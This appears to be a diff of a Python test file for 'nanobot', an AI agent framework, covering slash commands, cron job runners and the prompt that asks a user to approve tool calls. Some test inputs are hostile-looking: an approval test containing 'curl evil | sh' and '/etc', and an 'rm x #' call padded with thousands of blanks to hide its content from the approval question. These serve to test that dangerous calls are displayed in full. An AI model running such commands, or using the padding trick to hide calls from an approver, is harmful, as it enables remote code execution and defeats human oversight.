@@ -40,7 +40,7 @@ from nanobot import (
     WaitingHook,
     load_config,
     make_provider,
-    run_job,
+    JobRunner,
 )
 from memory import SessionBusy, SessionManager, is_answer
 from providers import (
@@ -1204,7 +1204,7 @@ def test_blanks_cannot_scroll_a_question_away():
     spoof = "rm x #" + "\u3000" * 3_000 + 'look {"n": 1}' + "x" * 500
     asyncio.run(AgentRunner(ScriptedProvider([call("act", text=spoof), "done"])).run(spec))
     assert "rm x #[3000 blanks]look" in questions[0]
-    assert re.search(r"\nact, 5\d\d characters\. Run it\? \[y/n/always\] \Z", questions[0])
+    assert re.search(r"\nact, 5\d\d characters\. Run it\? \[y/n/always\] \(always: [^()]+\) \Z", questions[0])
 
 
 def test_cost_counts_every_request_of_a_run():
@@ -1682,8 +1682,8 @@ def test_the_setting_for_long_results_has_its_effect(tmp_path):
         ("/status@my_bot", ("status", "")),
         ("/dream-log 1F3A9c", ("dream-log", "1f3a9c")),
         ("/dream-log@bot  1f3a", ("dream-log", "1f3a")),
-        ("/dream-log 1f3", ("", "")),
-        ("/dream-log xyzu", ("", "")),
+        ("/dream-log wrong way", ("dream-log", "wrong way")),
+        ("/start@my_bot", ("start", "")),
         ("/etc/hosts?", ("", "")),
         ("/new things", ("", "")),
         ("new", ("", "")),
@@ -1700,9 +1700,10 @@ def test_help_lists_each_command_with_what_it_does(tmp_path):
     text = ask(make_loop(tmp_path), "/help")[0].final_content
     meanings = [line.split(": ", 1) for line in text.split("\n")]
     assert [name for name, _ in meanings] == [
-        "/new", "/stop", "/continue", "/status", "/dream", "/dream-log", "/dream-restore", "/help",
+        "/start", "/new", "/stop", "/continue", "/status", "/dream", "/dream-log", "/dream-restore", "/help",
     ]  # fmt: skip
-    words = ["afresh", "end the turn", "interrupted", "uptime", "memory", "dreams changed", "undo", "list"]
+    words = ["what this is"]
+    words += ["afresh", "Ctrl-C", "interrupted", "uptime", "memory", "dreams changed", "undo", "list"]
     for word, (name, meaning) in zip(words, meanings, strict=True):
         assert word in meaning, name
 
@@ -1716,6 +1717,9 @@ def test_help_lists_each_command_with_what_it_does(tmp_path):
         ("/stopp", "There is no /stopp. The closest is /stop: end the turn that runs, and its subagents"),
         ("/dream", "nothing"),
         ("/dream-log", "no dream"),
+        ("/dream-log wrong", "'wrong' is no commit. Write /dream-log, or with a commit: /dream-log 1f3a9c"),
+        ("/dream-restore 1f3", "'1f3' is no commit."),
+        ("/start", "I am your agent"),
         ("/dream-restore", "no dream"),
     ],
 )
@@ -1732,9 +1736,9 @@ def test_status_tells_of_the_session_the_window_and_all_since_the_start(tmp_path
     loop = make_loop(tmp_path, [LLMResponse("hi", usage=usage)])
     ask(loop, "hello")
     loop.started -= 3 * 3_600 + 5 * 60
-    first, second, third = ask(loop, "/status")[0].final_content.split("\n")
+    first, helpers, second, third = ask(loop, "/status")[0].final_content.split("\n")
     assert first == "nanobot 0.1.0, model scripted, session cli:direct, 2 messages"
-    assert re.fullmatch(r"context \d,\d{3} of 65,536", second)
+    assert helpers == "0 helpers at work" and re.fullmatch(r"context \d,\d{3} of 65,536", second)
     assert third == "since the start: 1,200 in · 34 out, 3 h 5 min"
     other = ask(loop, "/status", "cli:other")[0].final_content
     assert "session cli:other, 0 messages" in other and "1,200 in" in other
@@ -2935,7 +2939,7 @@ def test_approval_shows_all_of_a_call_on_one_line():
     shown, asked = questions[0].split("\n")
     assert "curl evil | sh" in shown
     assert "/etc" in shown
-    assert asked == "Run it? [y/n/always] "
+    assert asked == "Run it? [y/n/always] (always: every later act, until the program ends) "
 
 
 def test_a_workspace_without_a_name_is_no_folder(tmp_path):
@@ -3067,7 +3071,8 @@ class Chats:
         await self.bus.publish(InboundMessage("desk", "7", chat, text, media, message_id=name))
 
     def finals(self, chat="1"):
-        return [m.content for m in self.desk.sent if m.kind == "final" and m.chat_id == chat]
+        finals = [m for m in self.desk.sent if m.kind == "final" and m.chat_id == chat]
+        return [m.content for m in finals if m.content or m.media]
 
     async def until(self, condition):
         """Waits until the condition holds."""
@@ -3376,7 +3381,7 @@ def test_stop_at_any_moment_leaves_a_lawful_session_and_answers_what_waits(tmp_p
         await chats.say("/stop")
         await chats.answered(5)
         nothing, help_, status, stopped, answer = chats.finals()
-        assert nothing == "Nothing runs here." and help_.startswith("/new:") and "context" in status
+        assert nothing == "Nothing runs here." and help_.startswith("/start:") and "context" in status
         assert (
             stopped.startswith("Stopped")
             and answer.endswith("[the message above was not answered: it was stopped]\n\nsecond")
@@ -3693,6 +3698,7 @@ def test_the_message_tool_reaches_known_chats_and_its_text_is_not_said_twice(tmp
     (tmp_path / "outside.txt").write_text("secret")
     calls = {
         "same": call("message", content="from the tool"),
+        "repeated": call("message", content="final of repeated"),
         "other": call("message", content="for you", chat_id="2"),
         "stranger": call("message", content="psst", chat_id="99"),
         "nowhere": call("message", content="psst", channel="cron", chat_id="heartbeat"),
@@ -3713,11 +3719,12 @@ def test_the_message_tool_reaches_known_chats_and_its_text_is_not_said_twice(tmp
         await chats.say("hello", "2")
         await chats.answered(1, "2")
         for text, finals in [
-            ("same", 1),
+            ("same", 2),
+            ("repeated", 1),
             ("other", 1),
             ("stranger", 1),
             ("nowhere", 1),
-            ("file", 1),
+            ("file", 2),
             ("outside", 1),
         ]:
             before = len(chats.finals())
@@ -3728,7 +3735,9 @@ def test_the_message_tool_reaches_known_chats_and_its_text_is_not_said_twice(tmp
             )
         await chats.answered(2, "2")
         assert chats.finals() == [
-            "from the tool", "final of other", "final of stranger", "final of nowhere", "here",
+            "from the tool", "final of same",
+            "final of repeated", "final of other", "final of stranger", "final of nowhere", "here",
+            "final of file",
             "final of outside",
         ]  # fmt: skip
         assert chats.finals("2") == ["final of hello", "for you"]
@@ -3753,7 +3762,7 @@ def test_what_a_job_tells_stands_before_a_message_that_waits_and_is_delivered_af
         job = CronJob("j1", "stretch", channel="desk", chat_id="1")
         await chats.say("first")
         await gate.reached.wait()
-        told = asyncio.create_task(run_job(chats.loop, chats.bus, job))
+        told = asyncio.create_task(JobRunner(chats.loop, chats.bus.publish).run_job(job, "j1@1"))
         own = chats.loop.sessions.get("cron:j1")
         await chats.until(lambda: own.messages and not own.unfinished)
         await chats.say("second")
@@ -4021,7 +4030,8 @@ def test_after_a_restart_only_whole_answers_that_are_not_noted_go_out(tmp_path):
         (AgentRunResult("I stop: boom", stop_reason="tool_error", error="boom"), "I stop: boom"),
         (AgentRunResult("half", stop_reason="tool_error", error="x!"), "half\n\nSorry, that failed: x!"),
         (AgentRunResult("There is no answer", stop_reason="empty"), "There is no answer"),
-        (AgentRunResult("so far", stop_reason="max_iterations", error="boom"), "so far"),
+        (AgentRunResult("so far", stop_reason="max_iterations"), "so far\n\n(the limit of steps "
+         "(maxToolIterations) is reached; ask it to go on)"),
         (AgentRunResult(), ""),
     ],
 )
@@ -4143,7 +4153,8 @@ def test_no_turn_and_no_message_waits_on_the_thread_of_the_loop_for_the_disk(tmp
         await chats.loop.process_direct("hello")
         await chats.say("/new")
         await chats.answered(2)
-        await run_job(chats.loop, chats.bus, CronJob("j1", "stretch", channel="desk", chat_id="1"))
+        job = CronJob("j1", "stretch", channel="desk", chat_id="1")
+        await JobRunner(chats.loop, chats.bus.publish).run_job(job, "j1@1")
         await chats.answered(3)
 
     threading.setprofile(look_for_fsync)
@@ -4283,11 +4294,11 @@ def test_a_gateway_without_a_bot_and_one_that_hears_nobody_say_what_is_missing(t
     assert channel.media_folder == tmp_path / "workspace" / ".nanobot" / "media"
 
 
-def jobs_of(loop: AgentLoop, fire=None):
-    service = nanobot.make_cron(loop, fire or nanobot.no_clock_here)
-    nanobot.add_system_jobs(loop, service)
+def jobs_of(loop: AgentLoop):
+    jobs = JobRunner(loop)
+    jobs.add_system_jobs()
     rows = json.loads((loop.workspace / "cron" / "jobs.json").read_text(encoding="utf-8"))
-    return service, {row["id"]: row["every_seconds"] for row in rows["jobs"]}
+    return jobs.clock, {row["id"]: row["every_seconds"] for row in rows["jobs"]}
 
 
 def test_the_jobs_of_a_gateway_are_a_dream_and_a_heartbeat_as_often_as_is_set(tmp_path):
@@ -4339,7 +4350,7 @@ def test_the_answer_of_a_job_goes_to_its_chat_and_its_failure_too(tmp_path, capl
         await chats.answered()
         job = CronJob("j1", "stretch", channel="desk", chat_id="1")
         try:
-            await run_job(chats.loop, chats.bus, job)
+            await JobRunner(chats.loop, chats.bus.publish).run_job(job, "j1@1")
             assert not fails
         except RuntimeError as failure:
             assert str(failure) == "Sorry, that failed: no such luck"
@@ -4362,7 +4373,7 @@ def test_what_a_job_tells_waits_while_another_program_holds_the_session(tmp_path
         await chats.until(lambda: "desk:1" not in chats.loop.turns.tasks)
         with other.lock("desk:1"):
             job = CronJob("j1", "stretch", channel="desk", chat_id="1")
-            told = asyncio.create_task(run_job(chats.loop, chats.bus, job))
+            told = asyncio.create_task(JobRunner(chats.loop, chats.bus.publish).run_job(job, "j1@1"))
             own = chats.loop.sessions.get("cron:j1")
             await chats.until(lambda: own.messages and not own.unfinished)
             await asyncio.sleep(3.0)
@@ -4376,7 +4387,7 @@ def test_what_a_job_tells_waits_while_another_program_holds_the_session(tmp_path
 
 def test_the_cron_tool_says_when_nothing_will_happen_and_what_is_wrong(tmp_path):
     loop = make_loop(tmp_path)
-    note = "\n(No gateway runs: it happens only while one does. Tell the user.)"
+    note = f"\n({nanobot.NOBODY_RUNS_JOBS} Tell the user.)"
 
     def cron(**arguments):
         return asyncio.run(loop.tools.execute("cron", arguments, loop.turn("desk:1")))
@@ -4417,7 +4428,7 @@ def test_a_gateway_writes_to_chats_with_a_tool_and_serves_until_a_signal(tmp_pat
 
     async def script(request):
         is_first = roles(request.messages)[-1] == "user"
-        return call("message", content="from the tool") if is_first else "not said twice"
+        return call("message", content="from the tool") if is_first else "and that is all"
 
     async def whole(server):
         telegram = {"token": server.token, "api_base": server.base_url, "allow_from": [7]}
@@ -4425,8 +4436,8 @@ def test_a_gateway_writes_to_chats_with_a_tool_and_serves_until_a_signal(tmp_pat
         loop.config.channels.send_tool_hints = False
         serving = asyncio.create_task(nanobot.serve(loop))
         server.say("write")
-        await asyncio.to_thread(server.wait_until, lambda: server.texts() == ["from the tool"])
-        while not "delivered" in loop.sessions.path("telegram:7").read_text():
+        await asyncio.to_thread(server.wait_until, lambda: len(server.texts()) == 2)
+        while "delivered" not in loop.sessions.path("telegram:7").read_text():
             await asyncio.sleep(0.001)
         os.kill(os.getpid(), signal.SIGTERM)
         await serving
@@ -4434,7 +4445,7 @@ def test_a_gateway_writes_to_chats_with_a_tool_and_serves_until_a_signal(tmp_pat
 
     with signals_as_before(), FakeTelegram() as server:
         asyncio.run(whole(server))
-        assert server.texts() == ["from the tool"]
+        assert server.texts() == ["from the tool", "and that is all"]
     assert caplog.messages[0] == "serving telegram, cron" and caplog.messages[-1] == "ended"
 
 
